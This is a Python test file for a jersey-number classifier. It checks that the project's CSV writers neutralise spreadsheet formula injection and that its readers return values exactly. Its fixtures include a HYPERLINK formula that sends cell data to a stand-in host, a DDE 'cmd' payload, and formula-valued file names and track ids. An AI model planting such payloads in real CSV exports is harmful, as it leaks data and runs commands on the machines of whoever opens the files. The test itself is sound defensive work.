"""Every CSV file the project writes is safe to open in a spreadsheet, and its own readers get the values back."""

import csv
import io
import json
import random
import re
from pathlib import Path

from jersey_cls.cli import main
from jersey_cls.evaluation.spreadsheet import DictWriter, read_rows, write_dicts, write_rows

from .conftest import eval_args, fit_args, write_crop

# A spreadsheet runs a cell that starts with one of these (OWASP); a plain number is no formula.
FORMULA = re.compile(r"[=+\-@\t\r]")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"23")', "@SUM(1)", "+1+A1", "-2+3+cmd|' /C calc'!A0",
           "'=quoted", "\t=tab", "\r=cr", "''", "'", "=", "-", "-1", "+0.5", "1e5", "7", "00",
           'a,b\n"c"', "٣"]  # fmt: skip


def unsafe_cells(text: str) -> list[str]:
    """The cells of a CSV file a spreadsheet would run as formulas."""
    return [value for row in csv.reader(io.StringIO(text)) for value in row
            if FORMULA.match(value) and not PLAIN_NUMBER.fullmatch(value)]  # fmt: skip


def hostile_strings(count: int, seed: int = 0) -> list[str]:
    rng = random.Random(seed)
    alphabet = "=+-@\t\r\n'\",;|!A1 0.e٣²" + "abc"
    return HOSTILE + ["".join(rng.choice(alphabet) for _ in range(rng.randint(0, 8))) for _ in range(count)]


def test_random_hostile_strings_never_start_a_formula_and_read_back_exactly(tmp_path):
    values = hostile_strings(3000)
    rows = [values[i : i + 3] for i in range(0, len(values) - 2, 3)]
    write_rows(tmp_path / "rows.csv", ["label", "track", "path"], rows)
    write_dicts(tmp_path / "dicts.csv", [dict(zip(["=a", "@b", "c"], row, strict=True)) for row in rows])
    with open(tmp_path / "stream.csv", "w", newline="", encoding="utf-8") as f:
        writer = DictWriter(f, fieldnames=["=a", "@b", "c"])
        writer.writeheader()
        for row in rows:
            writer.writerow(dict(zip(["=a", "@b", "c"], row, strict=True)))
    for name, header in (("rows.csv", ["label", "track", "path"]), ("dicts.csv", ["=a", "@b", "c"]),
                         ("stream.csv", ["=a", "@b", "c"])):  # fmt: skip
        text = (tmp_path / name).read_text(encoding="utf-8")
        assert unsafe_cells(text) == []
        with open(tmp_path / name, newline="", encoding="utf-8") as f:
            back = read_rows(f)
        assert [[row[key] for key in header] for row in back] == rows
        assert list(back[0]) == header


def test_every_csv_of_a_run_with_hostile_labels_track_ids_and_names_is_safe(tmp_path):
    labels = ['=HYPERLINK("http://evil.example/?x="&A1,"23")', "@SUM(1)", "+1+A1", "-2+3"]
    root = tmp_path / "hostile"
    for split, count in (("train", 8), ("valid", 3), ("test", 3)):
        rows = []
        for k, label in enumerate(labels):
            for i in range(count):
                name = f"=cmd{k}_{i}.jpg"  # a file name that is a formula, inside a path
                write_crop(root / split / name, str(k), seed=f"{split}-{k}-{i}")
                rows.append({"image": name, "suffix": label, "track_id": f"=2+{k}" if i % 2 else f"@T{k}"})
        (root / split / "annotations.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows))
    main(fit_args(root, "--model.lr", "0.01"))
    main(eval_args("test", root))
    main(eval_args("predict", root, "--data.predict_path", str(root / "test"), "--predictions.tracks", "track_id",
                   "--predictions.review", "4"))  # fmt: skip
    main(eval_args("audit", root, "--folds", "2", "--fold_epochs", "1"))
    written = [p for p in Path("runs/jersey").rglob("*.csv") if "logs" not in p.parts]
    assert {"test.csv", "test_tracks.csv", "test_per_class.csv", "test_confusion_matrix.csv",
            "suspect_labels.csv", "out_of_sample.csv"} <= {p.name for p in written}  # fmt: skip
    for path in written:
        assert unsafe_cells(path.read_text(encoding="utf-8")) == [], path
    with open("runs/jersey/predictions/test.csv", newline="", encoding="utf-8") as f:
        predictions = read_rows(f)
    assert {row["label"] for row in predictions} == set(labels)
    assert {row["pred_label"] for row in predictions} <= set(labels)
    with open("runs/jersey/predictions/test_tracks.csv", newline="", encoding="utf-8") as f:
        assert {row["track"] for row in read_rows(f)} == {f"=2+{k}" for k in range(4)} | {f"@T{k}" for k in range(4)}
    review = Path("runs/jersey/predictions/test_review/annotations.jsonl").read_text().splitlines()
    assert review and {json.loads(line)["suffix"] for line in review} <= set(labels)
